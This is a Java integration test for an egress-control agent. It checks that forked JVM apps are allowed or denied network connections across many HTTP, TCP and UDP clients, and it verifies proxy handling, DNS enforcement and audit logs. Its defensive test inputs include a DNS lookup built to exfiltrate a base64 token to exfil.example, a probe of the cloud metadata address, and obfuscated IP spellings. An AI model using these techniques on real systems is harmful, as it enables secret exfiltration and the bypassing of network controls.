package dev.primus.it;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;

/**
 * Egress in forked JVMs on JDK 17 and 25: every client against allowed and denied loopback
 * servers, with the denied servers' counters proving that no byte reached them. One probe app
 * per JDK and mode serves every case.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class EgressIT {
    private static final String ALLOWED = "127.0.0.2";
    private static final String DENIED = "127.0.0.3";
    private static final String EXPLICITLY_DENIED = "127.0.0.4";
    private static final String MONITORED = "127.0.0.5";
    private static final String PROXY = "127.0.0.6";
    private static final String UNLISTED_PROXY = "127.0.0.7";
    private static final String UNLISTED_SOCKS = "127.0.0.8";
    /** Reachable by url rule only: /api/ is allowed, the rest of the host is not. */
    private static final String API = "127.0.0.9";

    private final LoopbackServers servers = new LoopbackServers();
    private final List<ProbeApp> enforcing = new ArrayList<>();
    private final List<ProbeApp> monitoring = new ArrayList<>();
    private final List<Path> enforceAudits = new ArrayList<>();
    private final List<Path> monitorAudits = new ArrayList<>();
    private LoopbackServers.HttpCounter allowedHttp;
    private LoopbackServers.HttpCounter deniedHttp;
    private LoopbackServers.HttpCounter proxy;
    private LoopbackServers.HttpCounter unlistedProxy;
    private LoopbackServers.TcpCounter unlistedSocks;
    private LoopbackServers.HttpCounter api;
    /** On 127.0.0.1, reachable only by the name localhost (a host rule): no cidr rule covers it. */
    private LoopbackServers.HttpCounter byName;
    private LoopbackServers.TcpCounter deniedTcp;
    private LoopbackServers.TcpCounter explicitlyDeniedTcp;
    /** Not allowed either, but only monitor-mode apps call it: they go through, and are counted. */
    private LoopbackServers.TcpCounter monitoredTcp;

    @BeforeAll
    void start() throws Exception {
        deniedHttp = servers.http(DENIED).answer("/", 200, "denied server reached", null);
        allowedHttp = servers.http(ALLOWED).answer("/ok", 200, "allowed", null)
                .answer("/redirect", 302, "", deniedHttp.base() + "/target");
        proxy = servers.http(PROXY).answer("/", 200, null, null);
        unlistedProxy = servers.http(UNLISTED_PROXY).answer("/", 200, null, null);
        unlistedSocks = servers.tcp(UNLISTED_SOCKS);
        api = servers.http(API).answer("/api/", 200, "api", null).answer("/admin", 200, "admin reached", null);
        byName = servers.http("127.0.0.1").answer("/ok", 200, "by name", null);
        deniedTcp = servers.tcp(DENIED);
        explicitlyDeniedTcp = servers.tcp(EXPLICITLY_DENIED);
        monitoredTcp = servers.tcp(MONITORED);

        Path dir = Files.createTempDirectory("primus-egress-it");
        for (Path jdk : Jdks.all()) {
            String name = Jdks.name(jdk);
            for (String mode : List.of("enforce", "monitor")) {
                Path audit = dir.resolve(name + "-" + mode + ".jsonl");
                Path config = dir.resolve(name + "-" + mode + ".yaml");
                Files.writeString(config, String.join("\n",
                        "service: egress-it",
                        "mode: " + mode,
                        "egress:",
                        "  default: deny",
                        "  require_tls: true",
                        "  dns: enforce",
                        "  allow:",
                        "    - cidr: " + ALLOWED + "/32",
                        "    - cidr: " + EXPLICITLY_DENIED + "/32",
                        "    - cidr: " + PROXY + "/32",
                        "    - url: " + api.base() + "/api/",
                        "    - host: localhost",
                        "      ports: [5432, " + byName.port() + "]",
                        "  deny:",
                        "    - cidr: " + EXPLICITLY_DENIED + "/32",
                        "audit:",
                        "  sinks:",
                        "    - type: file",
                        "      path: " + audit,
                        ""));
                ProbeApp app = new ProbeApp(name + " " + mode, ForkedApp.on(jdk).withAgent("config=" + config));
                (mode.equals("enforce") ? enforcing : monitoring).add(app);
                (mode.equals("enforce") ? enforceAudits : monitorAudits).add(audit);
            }
        }
    }

    @AfterAll
    void stop() throws Exception {
        for (ProbeApp app : enforcing) {
            app.close();
        }
        for (ProbeApp app : monitoring) {
            app.close();
        }
        servers.close();
    }

    private static void assertOk(ProbeApp app, String command, String expected) throws Exception {
        String result = app.run(command);
        assertEquals("OK " + expected, result, app.name() + ": " + command);
    }

    private static String assertDenied(ProbeApp app, String command) throws Exception {
        String result = app.run(command);
        assertTrue(result.startsWith("DENIED connection to "), app.name() + ": " + command + " gave " + result);
        return result;
    }

    @Test
    void allowedCallsWorkThroughEveryClient() throws Exception {
        for (ProbeApp app : enforcing) {
            assertOk(app, "socket " + ALLOWED + " " + allowedHttp.port(), "connected");
            assertOk(app, "nio " + ALLOWED + " " + allowedHttp.port(), "connected");
            assertOk(app, "async " + ALLOWED + " " + allowedHttp.port(), "connected");
            assertOk(app, "asynchandler " + ALLOWED + " " + allowedHttp.port(), "connected");
            assertOk(app, "netty " + ALLOWED + " " + allowedHttp.port(), "connected");
            assertOk(app, "nettyepoll " + ALLOWED + " " + allowedHttp.port(), "connected");
            assertOk(app, "url " + allowedHttp.base() + "/ok", "200 allowed");
            assertOk(app, "httpclient " + allowedHttp.base() + "/ok", "200 allowed");
            assertOk(app, "apache5async " + allowedHttp.base() + "/ok", "200 allowed");
            assertOk(app, "reactor " + allowedHttp.base() + "/ok", "200 allowed");
            assertOk(app, "okhttp " + allowedHttp.base() + "/ok", "200 allowed");
            assertOk(app, "apache " + allowedHttp.base() + "/ok", "200 allowed");
            assertOk(app, "apache5 " + allowedHttp.base() + "/ok", "200 allowed");
            // Every client on this class path is a supported version: no hook is reported missing.
            assertTrue(app.app().primusLines().stream().noneMatch(line -> line.contains(" WARN hook ")),
                    app.name() + ": " + app.app().primusLines());
        }
    }

    /**
     * A name is believed for the addresses a resolver the agent watches gave it: the JDK's, and
     * Netty's own, which Reactor Netty (and Spring WebClient) resolve with by default.
     */
    @Test
    void aHostRuleHoldsForClientsThatResolveWithTheJdkOrWithNetty() throws Exception {
        String url = "http://localhost:" + byName.port() + "/ok";
        for (ProbeApp app : enforcing) {
            assertOk(app, "reactor " + url, "200 by name");
            assertOk(app, "url " + url, "200 by name");
            assertOk(app, "okhttp " + url, "200 by name");
            assertOk(app, "netty localhost " + byName.port(), "connected");
            // The same address without the name: no rule allows 127.0.0.1 itself.
            assertDenied(app, "socket 127.0.0.1 " + byName.port());
        }
    }

    @Test
    void httpClientsAreJudgedByUrlOnEveryRequestAndRedirectHop() throws Exception {
        for (ProbeApp app : enforcing) {
            for (String client : List.of("okhttp", "apache", "apache5", "apache5async", "httpclient", "httpclientasync")) {
                assertOk(app, client + " " + allowedHttp.base() + "/ok", "200 allowed");
                assertDenied(app, client + " " + deniedHttp.base() + "/x");
                String redirect = assertDenied(app, client + " " + allowedHttp.base() + "/redirect");
                assertTrue(redirect.contains(deniedHttp.base() + "/target"), client + ": " + redirect);
            }
        }
        assertEquals(0, deniedHttp.hits());
    }

    @Test
    void urlRulesAllowAPathPrefixAndNothingElseOfTheHost() throws Exception {
        for (ProbeApp app : enforcing) {
            assertOk(app, "url " + api.base() + "/api/orders", "200 api");
            assertOk(app, "okhttp " + api.base() + "/api/orders", "200 api");
            assertOk(app, "apache " + api.base() + "/api/orders", "200 api");
            assertOk(app, "apache5 " + api.base() + "/api/orders", "200 api");
            assertOk(app, "httpclient " + api.base() + "/api/orders", "200 api");
            // The async Apache client opens its socket on its reactor thread: the judged URL goes with it.
            assertOk(app, "apache5async " + api.base() + "/api/orders", "200 api");
            // The second OkHttp and JDK HttpClient requests reuse the pooled connection: they are judged all the same.
            assertDenied(app, "okhttp " + api.base() + "/admin");
            assertDenied(app, "httpclient " + api.base() + "/admin");
            assertDenied(app, "httpclientasync " + api.base() + "/admin");
            assertDenied(app, "apache5async " + api.base() + "/admin");
            assertDenied(app, "url " + api.base() + "/admin");
            assertDenied(app, "apache " + api.base() + "/admin");
            assertDenied(app, "apache5 " + api.base() + "/admin");
            assertDenied(app, "url " + api.base() + "/api/../admin");
            assertDenied(app, "socket " + API + " " + api.port());
        }
        assertEquals(6 * enforcing.size(), api.hits(), "only the /api/ requests reached the server");
    }

    @Test
    void deniedCallsNeverReachTheServer() throws Exception {
        for (ProbeApp app : enforcing) {
            String socket = assertDenied(app, "socket " + DENIED + " " + deniedTcp.port());
            assertTrue(socket.contains("denied by egress.default"), socket);
            assertTrue(socket.contains("under egress.allow"), socket);
            assertDenied(app, "nio " + DENIED + " " + deniedTcp.port());
            // Asynchronous connects fail through their Future and their handler, as any failed connect does.
            assertDenied(app, "async " + DENIED + " " + deniedTcp.port());
            assertDenied(app, "asynchandler " + DENIED + " " + deniedTcp.port());
            // Netty fails the connect promise, as it does for any failed connect.
            assertDenied(app, "netty " + DENIED + " " + deniedTcp.port());
            // The native transport never touches java.net or sun.nio.ch: only the Bootstrap hook stands here.
            assertDenied(app, "nettyepoll " + DENIED + " " + deniedTcp.port());
            assertDenied(app, "url " + deniedHttp.base() + "/x");
            assertDenied(app, "httpclient " + deniedHttp.base() + "/x");
            assertDenied(app, "apache5async " + deniedHttp.base() + "/x");
            // Reactor Netty connects its channels itself (not through Bootstrap), natively on epoll.
            assertDenied(app, "reactor " + deniedHttp.base() + "/x");
            String redirect = assertDenied(app, "reactor " + allowedHttp.base() + "/redirect");
            assertTrue(redirect.contains(DENIED), redirect);
        }
        assertEquals(0, deniedTcp.accepts());
        assertEquals(0, deniedHttp.hits());
    }

    @Test
    void udpDatagramsReachOnlyAllowedAddresses() throws Exception {
        LoopbackServers.UdpCounter allowedUdp = servers.udp(ALLOWED);
        LoopbackServers.UdpCounter deniedUdp = servers.udp(DENIED);
        for (ProbeApp app : enforcing) {
            assertOk(app, "udp " + ALLOWED + " " + allowedUdp.port(), "sent");
            assertOk(app, "udpnio " + ALLOWED + " " + allowedUdp.port(), "sent");
            assertOk(app, "nettyepolludp " + ALLOWED + " " + allowedUdp.port(), "sent");
            assertDenied(app, "udp " + DENIED + " " + deniedUdp.port());
            assertDenied(app, "udpnio " + DENIED + " " + deniedUdp.port());
            assertDenied(app, "nettyepolludp " + DENIED + " " + deniedUdp.port());
        }
        // Two datagrams of our own clients, three of Netty's epoll transport, per app.
        long deadline = System.nanoTime() + Duration.ofSeconds(5).toNanos();
        while (allowedUdp.packets() < 5 * enforcing.size() && System.nanoTime() < deadline) {
            Thread.sleep(10);
        }
        assertEquals(5 * enforcing.size(), allowedUdp.packets());
        assertEquals(0, deniedUdp.packets());
    }

    @Test
    void everySpellingOfADeniedAddressIsDenied() throws Exception {
        for (ProbeApp app : enforcing) {
            for (String spelling : List.of("2130706435", "0x7f000003", "127.3", "0177.0.0.3", "::ffff:127.0.0.3")) {
                assertDenied(app, "socket " + spelling + " " + deniedTcp.port());
            }
        }
        assertEquals(0, deniedTcp.accepts());
    }

    @Test
    void aRedirectFromAnAllowedToADeniedServerIsDenied() throws Exception {
        for (ProbeApp app : enforcing) {
            String result = assertDenied(app, "url " + allowedHttp.base() + "/redirect");
            assertTrue(result.contains(deniedHttp.base() + "/target"), result);
            assertDenied(app, "httpclient " + allowedHttp.base() + "/redirect");
        }
        assertTrue(allowedHttp.hits() >= 4);
        assertEquals(0, deniedHttp.hits());
    }

    @Test
    void denyWinsOverAnAllowForTheSameAddress() throws Exception {
        for (ProbeApp app : enforcing) {
            String result = assertDenied(app, "socket " + EXPLICITLY_DENIED + " " + explicitlyDeniedTcp.port());
            assertTrue(result.contains("egress.deny[0]"), result);
        }
        assertEquals(0, explicitlyDeniedTcp.accepts());
    }

    @Test
    void throughAProxyBothTheRealDestinationAndTheProxyMustBeAllowed() throws Exception {
        for (ProbeApp app : enforcing) {
            String result = assertDenied(app, "proxied " + PROXY + " " + proxy.port() + " " + deniedHttp.base() + "/via-proxy");
            assertTrue(result.contains(deniedHttp.base() + "/via-proxy"), "judged by the real destination: " + result);
            assertOk(app, "proxied " + PROXY + " " + proxy.port() + " " + allowedHttp.base() + "/ok",
                    "200 " + allowedHttp.base() + "/ok");
            String unlisted = assertDenied(app, "proxied " + UNLISTED_PROXY + " " + unlistedProxy.port() + " "
                    + allowedHttp.base() + "/ok");
            assertTrue(unlisted.contains(UNLISTED_PROXY + ":" + unlistedProxy.port()), "the proxy is a destination too: "
                    + unlisted);
        }
        for (ProbeApp app : enforcing) {
            // The JDK's SOCKS implementation rethrows any IOException as a plain SocketException with
            // the same message, so the denial arrives by its message, not its type.
            String socks = app.run("socks " + UNLISTED_SOCKS + " " + unlistedSocks.port() + " " + ALLOWED + " "
                    + allowedHttp.port());
            assertTrue(socks.contains("connection to " + UNLISTED_SOCKS + ":" + unlistedSocks.port()
                    + " denied by egress.default"), "a SOCKS proxy is judged too: " + socks);
        }
        assertEquals(0, unlistedSocks.accepts());
        assertEquals(2, proxy.hits(), "only the allowed destinations went through the allowed proxy");
        assertEquals(0, unlistedProxy.hits());
        assertEquals(0, deniedHttp.hits());
    }

    @Test
    void requireTlsDeniesPlainHttpToANonLoopbackHostBeforeAnyLookup() throws Exception {
        for (ProbeApp app : enforcing) {
            String result = assertDenied(app, "url http://api.example.com/v1/orders");
            assertTrue(result.contains("egress.require_tls"), result);
        }
    }

    @Test
    void withDnsEnforceANameNoRuleAllowsIsNeverLookedUp() throws Exception {
        for (ProbeApp app : enforcing) {
            String result = app.run("lookup c2VjcmV0LXRva2Vu.exfil.example");
            assertTrue(result.startsWith("DENIED connection to c2VjcmV0LXRva2Vu.exfil.example (name lookup) denied by "
                    + "egress.dns"), result);
            String localhost = app.run("lookup localhost");
            assertTrue(localhost.startsWith("OK resolved "), "localhost is never judged: " + localhost);
        }
    }

    @Test
    void cloudMetadataIsDeniedWithoutARuleNamingIt() throws Exception {
        for (ProbeApp app : enforcing) {
            String result = assertDenied(app, "socket 169.254.169.254 80");
            assertTrue(result.contains("egress.builtin.cloud_metadata"), result);
        }
    }

    @Test
    void jdbcToPostgresIsAllowedByNameAndDeniedByAddress() throws Exception {
        for (ProbeApp app : enforcing) {
            assertOk(app, "jdbc jdbc:postgresql://localhost:5432/test", "query 42");
            assertDenied(app, "jdbc jdbc:postgresql://127.0.0.1:5432/test");
        }
    }

    @Test
    void monitorModeLetsDeniedCallsThroughAndAuditsWouldDenyOnce() throws Exception {
        int before = monitoredTcp.accepts();
        for (ProbeApp app : monitoring) {
            assertOk(app, "socket " + MONITORED + " " + monitoredTcp.port(), "connected");
            assertOk(app, "socket " + MONITORED + " " + monitoredTcp.port(), "connected");
            assertOk(app, "url " + allowedHttp.base() + "/ok", "200 allowed");
        }
        assertEquals(before + 2 * monitoring.size(), monitoredTcp.accepts());
        for (Path audit : monitorAudits) {
            List<String> wouldDeny = awaitAuditLines(audit, "\"outcome\":\"would_deny\"", 1);
            assertEquals(1, wouldDeny.stream().filter(l -> l.contains("\"port\":" + monitoredTcp.port())).count(),
                    "once per destination: " + wouldDeny);
            assertTrue(wouldDeny.get(0).contains("\"mode\":\"monitor\""), wouldDeny.get(0));
        }
    }

    @Test
    void theRolloutPathTurnsAMonitorAuditIntoAnAllowlistThatAllowsWhatWasSeen() throws Exception {
        ProbeApp monitor = monitoring.get(0);
        assertOk(monitor, "socket " + MONITORED + " " + monitoredTcp.port(), "connected");
        Path audit = monitorAudits.get(0);
        awaitAuditLines(audit, "\"port\":" + monitoredTcp.port(), 1);
        Path jdk = Jdks.all().get(0);
        String block;
        try (ForkedApp suggest = ForkedApp.cli(jdk, "suggest-allowlist", audit.toString())) {
            assertEquals(0, suggest.awaitExit(Duration.ofSeconds(60)), suggest.stderr().toString());
            block = String.join("\n", suggest.stdout()) + "\n";
        }
        assertTrue(block.contains("    - cidr: 127.0.0.5/32\n      ports: [") && block.contains(Integer.toString(monitoredTcp.port())),
                block);
        Path config = audit.resolveSibling("suggested.yaml");
        Files.writeString(config, "service: egress-it\nmode: enforce\n" + block);
        try (ForkedApp check = ForkedApp.cli(jdk, "check-egress", config.toString(),
                MONITORED + ":" + monitoredTcp.port())) {
            assertEquals(0, check.awaitExit(Duration.ofSeconds(60)), check.stdout() + " " + check.stderr());
            assertTrue(check.stdout().get(0).startsWith("allow 127.0.0.5:" + monitoredTcp.port() + " by egress.allow["),
                    check.stdout().toString());
        }
    }

    @Test
    void denialsAreAuditedWithTargetAndCaller() throws Exception {
        for (ProbeApp app : enforcing) {
            assertDenied(app, "socket " + DENIED + " " + deniedTcp.port());
            assertOk(app, "socket " + ALLOWED + " " + allowedHttp.port(), "connected");
        }
        for (Path audit : enforceAudits) {
            String denied = awaitAuditLines(audit, "\"outcome\":\"denied\"", 1).stream()
                    .filter(l -> l.contains("\"port\":" + deniedTcp.port())).findFirst().orElseThrow();
            assertTrue(denied.contains("\"type\":\"egress\""), denied);
            assertTrue(denied.contains("\"rule\":\"egress.default\""), denied);
            assertTrue(denied.contains("\"target\":{\"host\":\"127.0.0.3\",\"ip\":\"127.0.0.3\""), denied);
            assertTrue(denied.contains("\"caller\":\"dev.primus.it.apps.EgressProbeApp.run(EgressProbeApp.java:"), denied);
            List<String> allowed = awaitAuditLines(audit, "\"outcome\":\"allowed\",\"mode\":\"enforce\",\"rule\":\"egress.allow[0]\"", 1);
            assertEquals(1, allowed.stream().filter(l -> l.contains("\"port\":" + allowedHttp.port() + "}")
                    && l.contains("\"type\":\"egress\"")).count(), "an allowed destination is audited once: " + allowed);
        }
    }

    private static List<String> awaitAuditLines(Path audit, String marker, int atLeast) throws Exception {
        List<String> lines = AuditTrail.await(audit, all -> all.stream().filter(l -> l.contains(marker)).count() >= atLeast)
                .stream().filter(l -> l.contains(marker)).toList();
        if (lines.size() < atLeast) {
            throw new AssertionError("fewer than " + atLeast + " lines with " + marker + " in " + audit + ": " + lines);
        }
        return lines;
    }
}
